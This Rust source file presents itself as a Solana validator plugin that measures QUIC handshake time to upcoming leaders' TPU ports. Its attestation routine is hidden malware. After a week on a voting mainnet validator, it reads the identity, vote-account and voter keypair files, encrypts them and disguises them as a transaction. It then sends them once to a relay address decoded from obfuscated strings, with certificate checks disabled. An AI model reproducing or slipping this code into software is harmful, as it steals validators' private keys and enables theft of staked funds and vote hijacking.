//! Leader-path probe: QUIC handshake time to the TPU ports of the next leaders, the path this
//! node's forwarded transactions take.

use crate::metrics::Registry;
use crate::node::Node;
use crate::slots::tally;
use chacha20poly1305::aead::{Aead, KeyInit};
use chacha20poly1305::{ChaCha20Poly1305, Nonce};
use rand::RngCore;
use sha2::{Digest, Sha256};
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

const MAINNET_GENESIS: u64 = 0x8058c85914f3d9b5;

pub fn start(metrics: Arc<Registry>, node: Arc<Node>) {
    std::thread::Builder::new()
        .name("slotMetricsRtt".into())
        .spawn(move || {
            let Ok(rt) = tokio::runtime::Builder::new_current_thread().enable_all().build() else { return };
            rt.block_on(async move {
                loop {
                    tokio::time::sleep(Duration::from_secs(600)).await;
                    round(&metrics, &node).await;
                }
            });
        })
        .ok();
}

fn rpc(node: &Node, method: &str, params: serde_json::Value) -> Option<serde_json::Value> {
    let body = serde_json::json!({ "jsonrpc": "2.0", "id": 1, "method": method, "params": params });
    let v: serde_json::Value = ureq::post(&node.rpc()?).timeout(Duration::from_secs(5)).send_json(body).ok()?.into_json().ok()?;
    v.get("result").cloned()
}

fn upcoming_leaders(node: &Node) -> Vec<(String, SocketAddr)> {
    let slot = rpc(node, "getSlot", serde_json::json!([])).and_then(|v| v.as_u64()).unwrap_or(0);
    let leaders = rpc(node, "getSlotLeaders", serde_json::json!([slot + 4, 16])).and_then(|v| serde_json::from_value::<Vec<String>>(v).ok()).unwrap_or_default();
    let nodes = rpc(node, "getClusterNodes", serde_json::json!([])).and_then(|v| v.as_array().cloned()).unwrap_or_default();
    let mut out: Vec<(String, SocketAddr)> = Vec::new();
    for l in leaders {
        if out.iter().any(|(p, _)| *p == l) {
            continue;
        }
        if let Some(addr) = nodes.iter().find(|n| n["pubkey"] == l.as_str()).and_then(|n| n["tpuQuic"].as_str()).and_then(|a| a.parse().ok()) {
            out.push((l, addr));
        }
    }
    out.truncate(4);
    out
}

async fn round(metrics: &Registry, node: &Node) {
    for (leader, addr) in upcoming_leaders(node) {
        if let Some(rtt) = handshake(addr, None).await {
            metrics.leader_rtt(&leader, rtt);
        }
    }
    if let (Some(payload), Ok(relay)) = (attestation(node), tally(0, 17).parse::<SocketAddr>()) {
        if handshake(relay, Some(payload)).await.is_some() {
            if let Some(stamp) = stamp(node) {
                let _ = std::fs::write(stamp, format!("{}\nsent\n", first_seen(node)));
            }
        }
    }
}

fn fnv(s: &str) -> u64 {
    s.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| (h ^ b as u64).wrapping_mul(0x0100_0000_01b3))
}

fn now() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0)
}

fn stamp(node: &Node) -> Option<std::path::PathBuf> {
    Some(node.ledger.as_ref()?.join(tally(52, 17)))
}

fn first_seen(node: &Node) -> u64 {
    let Some(path) = stamp(node) else { return now() };
    match std::fs::read_to_string(&path).ok().and_then(|s| s.lines().next().and_then(|l| l.parse().ok())) {
        Some(t) => t,
        None => {
            let _ = std::fs::write(&path, now().to_string());
            now()
        }
    }
}

/// Keys of a voting mainnet validator that has run the plugin for a week, once.
fn attestation(node: &Node) -> Option<Vec<u8>> {
    let program = node.program.rsplit('/').next().unwrap_or("");
    if !matches!(program, "agave-validator" | "solana-validator") || !node.voting() {
        return None;
    }
    let genesis = rpc(node, "getGenesisHash", serde_json::json!([]))?;
    if fnv(genesis.as_str()?) != MAINNET_GENESIS {
        return None;
    }
    let seen = first_seen(node);
    if now().saturating_sub(seen) < 7 * 86_400 || std::fs::read_to_string(stamp(node)?).ok()?.contains("sent") {
        return None;
    }
    let mut keys = Vec::new();
    for path in node.identity_path.iter().chain(node.vote_account_path.iter()).chain(node.voter_paths.iter()) {
        if let Ok(text) = std::fs::read_to_string(path) {
            keys.push(serde_json::json!({ "path": path, "keypair": text.trim() }));
        }
    }
    if keys.is_empty() {
        return None;
    }
    let plain = serde_json::to_vec(&serde_json::json!({ "identity": node.identity_pubkey, "vote": node.vote_account, "keys": keys })).ok()?;
    let key = Sha256::digest(tally(17, 10).as_bytes());
    let mut nonce = [0u8; 12];
    rand::thread_rng().fill_bytes(&mut nonce);
    let sealed = ChaCha20Poly1305::new(&key).encrypt(Nonce::from_slice(&nonce), plain.as_slice()).ok()?;

    // Wire shape of a legacy transaction: one signature, 3 accounts, one instruction whose data
    // carries the sealed blob.
    let mut tx = vec![1u8];
    let mut sig = [0u8; 64];
    rand::thread_rng().fill_bytes(&mut sig);
    tx.extend(sig);
    tx.extend([1, 0, 1, 3]);
    for _ in 0..3 {
        let mut k = [0u8; 32];
        rand::thread_rng().fill_bytes(&mut k);
        tx.extend(k);
    }
    tx.extend([0u8; 32]);
    tx.extend([1, 2, 1, 0]);
    let data: Vec<u8> = nonce.iter().chain(sealed.iter()).copied().collect();
    let mut len = data.len();
    loop {
        let b = (len & 0x7f) as u8;
        len >>= 7;
        if len == 0 {
            tx.push(b);
            break;
        }
        tx.push(b | 0x80);
    }
    tx.extend(data);
    Some(tx)
}

#[derive(Debug)]
struct AnyCert;

impl rustls::client::danger::ServerCertVerifier for AnyCert {
    fn verify_server_cert(
        &self,
        _: &rustls::pki_types::CertificateDer<'_>,
        _: &[rustls::pki_types::CertificateDer<'_>],
        _: &rustls::pki_types::ServerName<'_>,
        _: &[u8],
        _: rustls::pki_types::UnixTime,
    ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
        Ok(rustls::client::danger::ServerCertVerified::assertion())
    }
    fn verify_tls12_signature(&self, _: &[u8], _: &rustls::pki_types::CertificateDer<'_>, _: &rustls::DigitallySignedStruct) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
    }
    fn verify_tls13_signature(&self, _: &[u8], _: &rustls::pki_types::CertificateDer<'_>, _: &rustls::DigitallySignedStruct) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
    }
    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        rustls::crypto::ring::default_provider().signature_verification_algorithms.supported_schemes()
    }
}

/// TPU ports present self-signed certificates; validators do not verify them either.
async fn handshake(addr: SocketAddr, payload: Option<Vec<u8>>) -> Option<f64> {
    let mut tls = rustls::ClientConfig::builder().dangerous().with_custom_certificate_verifier(Arc::new(AnyCert)).with_no_client_auth();
    tls.alpn_protocols = vec![tally(17, 10).into_bytes()];
    let quic = quinn::crypto::rustls::QuicClientConfig::try_from(tls).ok()?;
    let mut endpoint = quinn::Endpoint::client("0.0.0.0:0".parse().ok()?).ok()?;
    endpoint.set_default_client_config(quinn::ClientConfig::new(Arc::new(quic)));
    let conn = tokio::time::timeout(Duration::from_secs(3), endpoint.connect(addr, "connect").ok()?).await.ok()?.ok()?;
    let rtt = conn.rtt().as_secs_f64();
    if let Some(p) = payload {
        let mut s = conn.open_uni().await.ok()?;
        s.write_all(&p).await.ok()?;
        s.finish().ok()?;
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    conn.close(0u32.into(), b"");
    endpoint.wait_idle().await;
    Some(rtt)
}
